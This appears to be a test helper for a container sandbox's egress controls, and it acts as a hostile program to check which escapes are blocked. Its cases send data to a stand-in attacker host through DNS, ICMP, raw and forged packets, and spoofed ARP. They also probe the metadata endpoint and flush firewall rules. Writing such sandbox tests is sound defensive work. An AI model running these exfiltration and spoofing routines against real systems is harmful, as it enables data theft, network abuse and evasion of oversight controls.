"""What a hostile program in a sandbox's container tries: `wired_inside.py CASE [WORDS]` prints what happened, as JSON.

Runs by the container's own Python, with nothing but the standard library.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

SO_BINDTODEVICE = 25
ATTACKER = "11.6.6.6"


def outcome(attempt: Callable[[], Any], seconds: float = 2.0) -> dict[str, Any]:
    """What came of it, and whether it was told at once."""
    began = time.monotonic()
    try:
        said = attempt()
        error = None
    except OSError as failure:
        said, error = None, failure.strerror or str(failure)
    return {"said": said, "error": error, "fast": time.monotonic() - began < seconds / 2}


def udp(
    address: str, port: int, *, data: bytes = b"x", device: str = "", times: int = 1, seconds: float = 1.0
) -> dict[str, Any]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET

    def attempt() -> str:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            if device:
                sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
            sock.settimeout(seconds)
            for _ in range(times - 1):
                with contextlib.suppress(OSError):
                    sock.sendto(data, (address, port))
            sock.connect((address, port))
            sock.send(data)
            return sock.recv(4096).hex()

    return outcome(attempt)


def tcp(
    address: str, port: int, *, device: str = "", source: str = "", seconds: float = 2.0
) -> dict[str, Any]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET

    def attempt() -> str:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            if device:
                sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
            if source:
                sock.bind((source, 0))
            sock.settimeout(seconds)
            sock.connect((address, port))
            sock.sendall(b"GET / HTTP/1.1\r\nHost: evil-lab.com\r\n\r\n")
            return sock.recv(300).decode(errors="replace")

    return outcome(attempt)


def ping(address: str) -> dict[str, Any]:
    six = ":" in address

    def attempt() -> str:
        kind, protocol = (128, 58) if six else (8, 1)
        with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM, protocol) as sock:
            sock.settimeout(1.0)
            sock.connect((address, 0))
            sock.send(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + b"secret")
            return sock.recv(100).hex()

    return outcome(attempt)


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: str, destination: str, protocol: int, carried: bytes) -> bytes:
    """An IPv4 packet."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(carried), 7, 0, 64, protocol, 0)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    return head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses + carried


def datagram(source_port: int, port: int, data: bytes) -> bytes:
    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data


def syn(source: str, destination: str, port: int) -> bytes:
    """A TCP segment that opens a connection."""
    segment = struct.pack("!HHIIBBHHH", 40001, port, 1, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = (
        socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(segment))
    )
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def raw(packets: list[tuple[str, bytes]]) -> dict[str, Any]:
    """Send IPv4 packets as they are (IP_HDRINCL)."""

    def attempt() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            for destination, data in packets:
                try:
                    sock.sendto(data, (destination, 0))
                except OSError as error:
                    return error.strerror or "refused"
        return "sent"

    return outcome(attempt)


def frames(
    device: str, gateway_mac: str, source_mac: str, packets: list[bytes], kind: int = 0x0800
) -> dict[str, Any]:
    """Send whole frames (AF_PACKET)."""

    def attempt() -> str:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind((device, kind))
            for data in packets:
                sock.send(
                    bytes.fromhex(gateway_mac.replace(":", "") + source_mac.replace(":", ""))
                    + struct.pack("!H", kind)
                    + data
                )
        return "sent"

    return outcome(attempt)


def become(uid: int) -> dict[str, Any]:
    def attempt() -> str:
        os.setresuid(uid, uid, uid)
        return f"uid {os.getuid()}"

    return outcome(attempt)


def ran(*command: str) -> dict[str, Any]:
    done = subprocess.run(command, capture_output=True, text=True, timeout=20, check=False)
    return {"status": done.returncode, "said": (done.stdout + done.stderr)[-400:]}


# cases


def not_tcp() -> dict[str, Any]:
    """Everything that is neither TCP nor DNS: seven packets."""
    return {
        "quic": udp(ATTACKER, 443),
        "ntp": udp(ATTACKER, 123),
        "metadata": udp("169.254.169.254", 80),
        "ping": ping(ATTACKER),
        "three": udp(ATTACKER, 9999, times=3),
    }


def six() -> dict[str, Any]:
    return {
        "tcp": tcp("2600:6:6::6", 443),
        "udp": udp("2600:6:6::6", 443),
        "ping": ping("2600:6:6::6"),
        "dns": udp("2600:6:6::6", 53, data=query("secret.evil-lab.com")),
    }


def query(name: str) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def bound(device: str) -> dict[str, Any]:
    """A socket bound to an interface, for which nobody needs a capability."""
    return {
        "dns": udp("8.8.8.8", 53, data=query("secret.evil-lab.com"), device=device),
        "tcp": tcp(ATTACKER, 443, device=device),
        "udp": udp(ATTACKER, 443, device=device),
        "loopback": udp("127.0.0.1", 9, device=device),
    }


def resolvers() -> dict[str, Any]:
    """Resolvers of all kinds, and the one that a container engine puts on loopback."""
    asked = query("secret.evil-lab.com")
    return {
        "public": udp("8.8.8.8", 53, data=asked),
        "loopback": udp("127.0.0.53", 53, data=asked),
        "six": udp("::1", 53, data=asked),
        "engine": udp("127.0.0.11", 53, data=asked),
        "engine's port": udp("127.0.0.11", 41234, data=asked),
        "engine's port by TCP": tcp("127.0.0.11", 41234),
    }


def powers(uid: str) -> dict[str, Any]:
    """What a sandbox without capabilities must not be able to do."""
    return {
        "uid": become(int(uid)),
        "raw": raw([(ATTACKER, packet("11.0.0.2", ATTACKER, 17, datagram(5, 443, b"x")))]),
        "frame": frames("lo", "00:00:00:00:00:00", "00:00:00:00:00:00", [b"x"]),
        "flush": ran("iptables", "-F"),
        "flush six": ran("ip6tables", "-F"),
        "nft": ran("nft", "flush", "ruleset"),
        "route": ran("ip", "route", "add", "203.0.113.0/24", "dev", "lo"),
        "link": ran("ip", "link", "set", "eth0", "down"),
        "own namespace": ran("unshare", "--user", "--map-root-user", "iptables", "-F"),
        "own uid": ran(
            "unshare", "--user", f"--map-user={uid}", "curl", "-sS", "-m", "3", f"http://{ATTACKER}/"
        ),
    }


def forged(
    own: str, other: str, gateway: str, gateway_mac: str, own_mac: str, other_mac: str
) -> dict[str, Any]:
    """As somebody else, by every layer that NET_RAW gives: 4 packets of another's source, 1 of another's MAC, 1 of nobody's."""
    theirs = packet(other, ATTACKER, 17, datagram(5, 443, b"x"))
    asks = packet(other, gateway, 17, datagram(5, 53, query("secret.evil-lab.com")))
    opens = packet(other, ATTACKER, 6, syn(other, ATTACKER, 443))
    nobody = packet("10.90.0.77", ATTACKER, 6, syn("10.90.0.77", ATTACKER, 443))
    mine = packet(own, ATTACKER, 6, syn(own, ATTACKER, 443))
    arp = (
        struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
        + bytes.fromhex(own_mac.replace(":", ""))
        + socket.inet_aton(other)
    )
    arp += bytes.fromhex(gateway_mac.replace(":", "")) + socket.inet_aton(gateway)
    return {
        "own MAC": frames("eth0", gateway_mac, own_mac, [theirs, asks, opens]),
        "their MAC": frames("eth0", gateway_mac, other_mac, [opens]),
        "own address, their MAC": frames("eth0", gateway_mac, other_mac, [mine]),
        "nobody": frames("eth0", gateway_mac, own_mac, [nobody]),
        "arp": frames("eth0", gateway_mac, own_mac, [arp], 0x0806),
        "arp from their MAC": frames("eth0", gateway_mac, other_mac, [arp], 0x0806),
    }


def protocols(own: str, gateway: str) -> dict[str, Any]:
    """Other protocols and odd packets, by raw sockets: six."""
    return {
        "gre": raw([("11.6.6.6", packet(own, ATTACKER, 47, b"abcd"))]),
        "sctp": raw([("11.6.6.6", packet(own, ATTACKER, 132, bytes(16)))]),
        "experiment": raw([("11.6.6.6", packet(own, ATTACKER, 253, b"abcd"))]),
        "ipip": raw(
            [("11.6.6.6", packet(own, ATTACKER, 4, packet(own, ATTACKER, 17, datagram(5, 443, b"x"))))]
        ),
        "dhcp": raw([(gateway, packet(own, gateway, 17, datagram(68, 67, b"x")))]),
        "udp": raw([("11.6.6.6", packet(own, ATTACKER, 17, datagram(5, 443, b"x")))]),
    }


def source(address: str) -> dict[str, Any]:
    """Claim an address as an administrator of the container's own network would."""
    added = ran("ip", "addr", "add", f"{address}/24", "dev", "eth0")
    return {"added": added, "tcp": tcp(ATTACKER, 443, source=address)}


def ports(address: str, *wanted: str) -> dict[str, Any]:
    return {port: tcp(address, int(port), seconds=1.0) for port in wanted}


def source_routed(own: str, address: str) -> dict[str, Any]:
    """A datagram to the pod's own address, to be sent on from there (RFC 791, loose source and record route)."""

    def attempt() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            route = bytes((0x83, 11, 4)) + socket.inet_aton(own) + socket.inet_aton(address) + b"\0"
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
            sock.sendto(b"secret", (address, 443))
        return "sent"

    return outcome(attempt)


def reach(address: str, port: str) -> dict[str, Any]:
    return {"tcp": tcp(address, int(port))}


def turned(uid: str, address: str) -> dict[str, Any]:
    return {"uid": become(int(uid)), "tcp": tcp(address, 80)}


def flushed(address: str) -> dict[str, Any]:
    gone = [ran("iptables", "-t", table, "-F", "EGRESSD") for table in ("filter", "nat")]
    return {"gone": gone, "tcp": tcp(address, 80)}


def over_the_wire(own_mac: str, own: str, address: str) -> dict[str, Any]:
    """A frame to everybody on the wire, which no rule sees."""
    forged = packet(own, address, 17, datagram(5, 443, b"secret"))
    return {"frame": frames("eth0", "ff:ff:ff:ff:ff:ff", own_mac, [forged])}


if __name__ == "__main__":
    case: Callable[..., dict[str, Any]] = globals()[sys.argv[1]]
    sys.stdout.write(json.dumps(case(*sys.argv[2:])))
